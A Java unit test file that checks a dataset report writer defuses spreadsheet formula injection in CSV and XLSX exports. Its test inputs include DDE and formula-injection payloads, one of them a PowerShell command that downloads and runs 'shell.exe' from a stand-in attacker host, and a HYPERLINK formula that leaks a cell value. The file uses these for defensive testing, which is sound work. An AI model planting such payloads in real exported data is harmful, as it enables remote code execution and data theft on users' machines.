package org.cartagena.dataset;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.cartagena.http.CsvLines;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.NodeList;

class ReportFormTest {
  private static final DatasetStore.Version VERSION =
      new DatasetStore.Version(
          7,
          "XRF",
          "hazard-area",
          "=1+1",
          3,
          "staged",
          "2024-07-31",
          null,
          "not stated",
          "test",
          "2024-08-01",
          "0.1.0",
          10,
          1,
          2,
          1234.5,
          null,
          null,
          null,
          0);

  private static byte[] report(ReportForm form, String... values) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ReportForm.Writer writer = form.writer(out)) {
      writer.about(
          VERSION,
          List.of(new DatasetStore.SourceFile("@areas.csv", "CSV", 12, "ab".repeat(32))),
          "[{\"code\":\"code-unknown\",\"severity\":\"warning\",\"number\":"
              + values.length
              + "}]");
      int row = 0;
      for (String value : values) {
        writer.row(
            new DatasetStore.ReportRow(
                "warning",
                "code-unknown",
                "@areas.csv",
                ++row,
                row,
                "=column",
                value,
                "\"" + value));
      }
    }
    return out.toByteArray();
  }

  /**
   * Payloads of the known collections: DDE, commands, links, and what hides the first character.
   */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=10+20+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
        "=HYPERLINK(\"http://example.org?x=\"&A1,\"error\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uFF1D1+1",
        "-",
        "+387 33 253 800",
        "-1-1",
        "-1e5e5"
      })
  void no_value_begins_a_formula(String payload) {
    assertThat(CsvLines.safe(payload)).startsWith("'");
  }

  /** A spreadsheet of a country with decimal commas splits a line at semicolons. */
  @Test
  void no_value_begins_a_formula_after_it_was_split_elsewhere() {
    assertThat(CsvLines.safe("mine;=1+1")).isEqualTo("mine;'=1+1");
    assertThat(CsvLines.safe("a\n@SUM(1)")).isEqualTo("a\n'@SUM(1)");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "-12",
        "-12.5",
        "-12,5",
        "-1.5e-7",
        "12",
        "a=b",
        "DDE (\"cmd\")",
        "2024-07-31",
        ""
      })
  void numbers_and_plain_words_stay_as_they_are(String value) {
    assertThat(CsvLines.safe(value)).isEqualTo(value);
  }

  @Test
  void csv_opens_as_utf_8_and_comes_back_whole() throws IOException {
    String nasty = "поље; \"quoted\", and\r\na second line";
    byte[] csv = report(ReportForm.CSV, nasty, "=1+1", "-5.5");
    assertThat(csv).startsWith(0xEF, 0xBB, 0xBF);
    String text = new String(csv, UTF_8).substring(1);
    List<CSVRecord> lines = CSVFormat.RFC4180.parse(new StringReader(text)).getRecords();
    assertThat(lines.get(0)).hasSize(8).startsWith("severity", "code", "file", "row in file");
    assertThat(lines.get(1).get(6)).isEqualTo(nasty);
    assertThat(lines.get(2).toList())
        .containsExactly(
            "warning", "code-unknown", "'@areas.csv", "2", "2", "'=column", "'=1+1", "\"=1+1");
    assertThat(lines.get(3).get(6)).isEqualTo("-5.5");
  }

  @Test
  void xlsx_holds_no_formula_and_says_whose_report_it_is(@TempDir Path directory) throws Exception {
    Map<String, String> parts =
        unzip(report(ReportForm.XLSX, "=1+1", "-5.5", "a\u0001b<&>"), directory.resolve("r.xlsx"));
    assertThat(parts.get("xl/workbook.xml")).contains("\"About\"", "\"Issues\"");
    for (Map.Entry<String, String> part : parts.entrySet()) {
      assertThat(part.getValue()).as(part.getKey()).doesNotContain("<f>", "<f ");
      if (part.getKey().endsWith(".xml")) {
        DocumentBuilderFactory.newInstance()
            .newDocumentBuilder()
            .parse(new ByteArrayInputStream(part.getValue().getBytes(UTF_8)));
      }
    }
    assertThat(parts.get("xl/worksheets/sheet1.xml"))
        .contains("=1+1", "ab".repeat(32), "2024-07-31", "code-unknown", "@areas.csv")
        .contains("t=\"inlineStr\"");
    assertThat(parts.get("xl/worksheets/sheet2.xml"))
        .contains("<t>=1+1</t>", "<t>-5.5</t>", "<t>a&#xfffd;b&lt;&amp;&gt;</t>");
  }

  /** What other readers than ours stumble over; ogr2ogr reads the same from it. */
  @Test
  void xlsx_holds_what_a_cell_can_hold(@TempDir Path directory) throws Exception {
    String emoji = "a" + "\uD83D\uDCA5".repeat(20_000);
    Path file = directory.resolve("hard.xlsx");
    Map<String, String> parts =
        unzip(
            report(
                ReportForm.XLSX,
                emoji,
                "half \uD83D of a pair",
                "_x000D_ by number",
                "خطر \u202Eألغام",
                "\t=1+1",
                "+1",
                "@A"),
            file);
    String rows = parts.get("xl/worksheets/sheet2.xml");
    NodeList texts =
        DocumentBuilderFactory.newInstance()
            .newDocumentBuilder()
            .parse(new ByteArrayInputStream(rows.getBytes(UTF_8)))
            .getElementsByTagName("t");
    List<String> values = new ArrayList<>();
    for (int i = 0; i < texts.getLength(); i++) {
      values.add(texts.item(i).getTextContent());
    }
    assertThat(values)
        .allSatisfy(value -> assertThat(value.length()).isLessThanOrEqualTo(32_767))
        .anySatisfy(
            value -> assertThat(value).startsWith("a\uD83D\uDCA5").endsWith("the CSV has all)"))
        .contains(
            "half \uFFFD of a pair",
            "_x005F_x000D_ by number",
            "خطر \u202Eألغام",
            "\t=1+1",
            "+1",
            "@A");
    assertThat(parts).containsKeys("[Content_Types].xml", "_rels/.rels", "xl/styles.xml");
    String kept = System.getProperty("keep.report");
    if (kept != null) {
      Files.copy(file, Path.of(kept));
    }
  }

  /** By its directory, as spreadsheets read it: opczip 1.2 streams entries without their size. */
  private static Map<String, String> unzip(byte[] bytes, Path file) throws IOException {
    Files.write(file, bytes);
    Map<String, String> parts = new LinkedHashMap<>();
    try (ZipFile zip = new ZipFile(file.toFile())) {
      for (ZipEntry entry : Collections.list(zip.entries())) {
        try (InputStream in = zip.getInputStream(entry)) {
          parts.put(entry.getName(), new String(in.readAllBytes(), UTF_8));
        }
      }
    }
    return parts;
  }
}
